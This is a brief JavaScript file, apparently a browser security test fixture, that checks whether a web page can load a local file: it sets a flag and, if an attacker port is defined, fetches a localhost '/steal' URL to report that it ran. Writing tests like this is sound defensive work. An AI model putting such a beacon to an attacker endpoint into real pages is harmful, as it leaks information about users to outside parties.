// A local file a web page must not run. (A file: page may: then ATTACKER is unset and the
// report below goes nowhere.)
globalThis.localScriptRan = true;
if (globalThis.ATTACKER) fetch("http://127.0.0.1:" + globalThis.ATTACKER + "/steal?local-script-ran").catch(() => {});
